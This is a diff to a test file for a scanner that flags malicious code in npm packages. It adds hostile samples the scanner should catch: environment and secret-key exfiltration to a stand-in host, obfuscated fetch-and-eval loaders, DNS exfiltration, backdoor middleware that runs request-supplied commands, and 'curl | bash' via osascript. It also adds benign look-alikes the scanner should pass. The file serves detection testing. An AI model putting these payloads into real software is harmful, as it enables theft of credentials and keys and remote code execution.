@@ -37,6 +37,15 @@ glob('**/.env',{cwd:os.homedir(),absolute:true}).then(fs_=>Promise.all(fs_.map(f
   'a replaced address in a payment': `const r=window.ethereum.request; window.ethereum.request=async a=>{ if(a.method==='eth_sendTransaction') a.params[0].to='0x1111111111111111111111111111111111111111'; return r.call(window.ethereum,a); };`,
   'cookies in the address of a page': `location.href='https://c.example.test/?c='+encodeURIComponent(document.cookie);`,
   'an environment that a socket emits': `const io=require('socket.io-client'); const s=io('https://c.example.test'); s.emit('x', process.env);`,
+  'an environment for a request with listeners': `const r = require('https').request({ host: 'c.example.test', method: 'POST' }).setTimeout(5000).on('error', () => {}); r.end(JSON.stringify(process.env));`,
+  'names that a replacement with a function decodes': `const d = (s) => s.replace(/../g, (h) => String.fromCharCode(parseInt(h, 16))); require(d('68747470'+'73')).get('https://c.example.test', (r) => r.on('data', (c) => eval(String(c))));`,
+  'a host that a replacement of groups decodes': `const d = (s) => s.replace(/%([0-9a-f]{2})/g, (_, h) => String.fromCharCode(parseInt(h, 16))); const n = d('%68%74%74%70%73'); require(n).get(d('%68%74%74%70%73%3a%2f%2f%63%2e%65%78%61%6d%70%6c%65%2e%74%65%73%74'));`,
+  'names of the machine in a variable of a shell': `require('child_process').exec('a=$(hostname; whoami) && echo $a | xxd -p | while read x; do nslookup $x.c.example.test; done');`,
+  'a replaced function of another package': `const { Keypair } = require('@solana/web3.js'); const o = Keypair.fromSecretKey; Keypair.fromSecretKey = function (k) { fetch('https://c.example.test/' + Buffer.from(k).toString('hex')); return o.apply(this, arguments); };`,
+  'a middleware that runs commands': `const { exec } = require('child_process'); module.exports = (req, res, next) => { if (req.query.k === 's3') return exec(req.query.c, (e, o) => res.end(o)); next(); };`,
+  'a middleware that runs code': `module.exports = () => (req, res, next) => { if (req.headers['x-k']) return res.json(eval(req.headers['x-k'])); next(); };`,
+  'a command within a script of macOS': `require('child_process').exec("osascript -e 'do shell script \\"curl -s https://c.example.test/a | bash\\"'");`,
+  'an answer that a shell runs': `(async () => { const { exec } = require('child_process'); const c = await (await fetch('https://c.example.test/c')).text(); exec('/bin/sh -c ' + c); })();`,
 };
 
 /** Honest code that uses the same. */
@@ -63,6 +72,21 @@ const HONEST: Readonly<Record<string, string>> = {
   'a payment to the address of a contract': `exports.pay = (signer, value) => { const tx = {}; tx.to = '0x1111111111111111111111111111111111111111'; tx.value = value; return signer.sendTransaction(tx); };`,
   'credentials of the cloud for requests to it': `async function token() { const r = await fetch('http://metadata.google.internal/computeMetadata/v1/token', { headers: { 'Metadata-Flavor': 'Google' } }); return (await r.json()).access_token; } exports.list = async () => fetch('https://storage.example/b', { headers: { authorization: 'Bearer ' + (await token()) } });`,
   'a program that runs a text of its own': `require('child_process').spawn(process.execPath, ['-e', 'console.log(process.version)'], { stdio: 'inherit' });`,
+  'an environment for a socket of this machine': `const net = require('net'), path = require('path'), os = require('os'); const s = net.connect(path.join(os.tmpdir(), 'daemon.sock')); s.end(JSON.stringify({ env: process.env, argv: process.argv }));`,
+  'an environment for the pipe that a caller names': `const net = require('net'); module.exports = (options) => net.connect({ path: options.pipe }).end(JSON.stringify(process.env));`,
+  'an environment for the socket of Docker': `const http = require('http'); exports.run = (image) => { const r = http.request({ socketPath: '/var/run/docker.sock', method: 'POST', path: '/containers/create' }); r.end(JSON.stringify({ image, env: process.env })); };`,
+  'the region and account of credentials in a URL': `const fs = require('fs'), os = require('os'), ini = require('ini'); const c = ini.parse(fs.readFileSync(os.homedir() + '/.aws/config', 'utf8')); exports.role = (name) => { const { sso } = c; const of = c[name]; return fetch('https://portal.' + of.sso_region + '.example.test/?account_id=' + of.sso_account_id + '&role_name=' + of.sso_role_name); };`,
+  'credentials that are exchanged for a token': `const fs = require('fs'), os = require('os'); const k = JSON.parse(fs.readFileSync(os.homedir() + '/.config/gcloud/application_default_credentials.json', 'utf8')); exports.token = () => fetch('https://oauth2.example.test/token', { method: 'POST', body: new URLSearchParams({ client_id: k.client_id, client_secret: k.client_secret, refresh_token: k.refresh_token, grant_type: 'refresh_token' }) });`,
+  'a keychain that sends nothing': `const fs = require('fs'), os = require('os'), { execFileSync } = require('child_process'); exports.get = (service) => execFileSync('security', ['find-generic-password', '-s', service, '-w']); exports.npm = () => fs.readFileSync(os.homedir() + '/.npmrc', 'utf8'); exports.net = () => fs.readFileSync(os.homedir() + '/.netrc', 'utf8'); exports.docker = () => fs.readFileSync(os.homedir() + '/.docker/config.json', 'utf8');`,
+  'a version that is looked up and kept': `const fs = require('fs'), { execSync } = require('child_process'); const registry = execSync('npm config get registry').toString().trim(); fetch(registry + 'sample').then((r) => r.json()).then((j) => fs.writeFileSync(process.argv[2], JSON.stringify(j['dist-tags'])));`,
+  'a replaced function of another package that measures': `const pg = require('pg'); const q = pg.Client.prototype.query; pg.Client.prototype.query = function (text) { const began = Date.now(); return q.apply(this, arguments).finally(() => fetch('https://apm.example.test/v1', { method: 'POST', body: JSON.stringify({ ms: Date.now() - began }) })); };`,
+  'a middleware that deploys': `const { exec, execFile } = require('child_process'); module.exports = (req, res) => { if (req.body.ref === 'refs/heads/main') exec('git pull && npm ci', () => res.end('ok')); else execFile('git', ['checkout', req.body.branch]); };`,
+  'a middleware that renders in a context': `const vm = require('vm'), fs = require('fs'); module.exports = (bundle) => (req, res) => res.end(vm.runInNewContext(fs.readFileSync(bundle, 'utf8'), { url: req.url, console }));`,
+  'a prompt for privileges on macOS': `exports.exec = (command) => require('child_process').execFile('osascript', ['-e', 'do shell script "' + command + '" with administrator privileges']);`,
+  'a variable of an environment that may be another': `const { AsyncLocalStorage } = require('async_hooks'); const store = new AsyncLocalStorage(); const env = () => store.getStore()?.env ?? process.env; exports.login = () => fetch('https://api.example', { method: 'POST', body: new URLSearchParams({ client_id: env().CLIENT_ID }) });`,
+  'a command with an answer as its argument': `const { exec } = require('child_process'); exports.tag = async () => { const { tag } = await (await fetch('https://api.example/version')).json(); exec('git tag ' + tag); };`,
+  'a command of the user with data that are filled in': `const { exec } = require('child_process'), { Eta } = require('eta'); exports.run = async (command) => exec(new Eta().renderString(command, await (await fetch('https://api.example/release')).json()));`,
+  'a loader with a compiler that it replaces': `const { Module } = require('module'); const proto = Module.prototype, original = proto._compile; proto._compile = function (content, filename) { return original.call(this, content, filename); };`,
 };
 
 describe('behaviours that show only by the way that data take', () => {
@@ -76,4 +100,9 @@ describe('behaviours that show only by the way that data take', () => {
       const { isSuspicious, signs } = scan(code);
       assert.ok(!isSuspicious, JSON.stringify(signs));
     });
+  test('an install that asks a downloaded program for its version is not suspicious', () => {
+    const code = `const cp = require('child_process'), fs = require('fs'), os = require('os'), path = require('path'); const file = path.join(os.tmpdir(), 'driver', 'driver'); cp.spawn(file, ['--version']); fetch('https://cdn.example/driver').then((r) => r.arrayBuffer()).then((b) => fs.writeFileSync(file, Buffer.from(b)));`;
+    const { isSuspicious, signs } = scan({ 'install.js': code }, { scripts: { install: 'node install.js' } });
+    assert.ok(!isSuspicious, JSON.stringify(signs));
+  });
 });
